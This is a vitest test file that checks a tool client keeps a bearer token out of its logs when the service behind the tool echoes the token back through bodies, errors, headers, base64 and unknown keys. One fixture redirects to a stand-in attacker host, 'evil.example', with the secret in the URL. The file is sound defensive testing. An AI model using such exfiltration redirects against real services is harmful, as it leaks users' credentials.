import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ServiceBehindTool } from '../testing/service-behind-tool.js';

const { SECRET } = ServiceBehindTool;
const HELD = 'held-4417-0b2c-99';
type Answering = ServiceBehindTool['answer'];
let service: ServiceBehindTool;
beforeAll(async () => {
  service = await ServiceBehindTool.start();
});
afterAll(() => service.stop());
beforeEach(() => service.reset());

describe('an attack by the service behind a tool', () => {
  const json = (text: unknown) => JSON.stringify({ text });
  it.each<[string, Answering]>([
    ['in its answer', ({ headers }) => ({ body: json(JSON.stringify(headers)) })],
    ['in the fault that it answers with', ({ headers }) => ({ status: 403, body: json(headers.authorization) })],
    ['in a redirect', () => ({ status: 302, headers: { location: `http://evil.example/?${SECRET}` }, body: '' })],
    ['in an answer that is no JSON', () => ({ body: `<html>${SECRET}` })],
    ['in an answer that breaks its schema', () => ({ body: JSON.stringify({ text: [SECRET] }) })],
    ['in the key of an answer', () => ({ body: JSON.stringify({ text: 'x', [SECRET]: 1 }) })],
    ['in a name that its schema does not know', () => ({ body: JSON.stringify({ [SECRET]: { [SECRET]: SECRET } }) })],
    ['in pieces of base64', () => ({ body: json(Buffer.from(`user:${SECRET}:`).toString('base64')) })],
    ['in how long to wait', () => ({ status: 429, headers: { 'retry-after': SECRET }, body: '' })],
    ['in its content type', () => ({ headers: { 'content-type': SECRET }, body: SECRET })],
    ['in its encoding', () => ({ headers: { 'content-encoding': SECRET }, body: SECRET })],
  ])('that repeats its key %s puts it on no record', async (_where, how) => {
    service.answer = how;
    const { log } = await service.call({ id: 'one' }, { retry: { max_attempts: 1 } });
    expect(service.heard[0]?.headers.authorization).toBe(`Bearer ${SECRET}`);
    for (const form of [SECRET, encodeURIComponent(SECRET), Buffer.from(SECRET).toString('base64').slice(0, 20)]) {
      expect(log).not.toContain(form);
    }
    expect(log).not.toContain(Buffer.from(`user:${SECRET}:`).toString('base64').slice(10, 30));
  });

  it('that hands out what somebody left there puts it on no record, whatever it calls it', async () => {
    service.answer = () => ({
      body: json(`password=${HELD}; https://u:${HELD}@host/ and Authorization: Bearer ${HELD}`),
    });
    expect((await service.call({ id: 'one' })).log).not.toContain(HELD);
  });
});
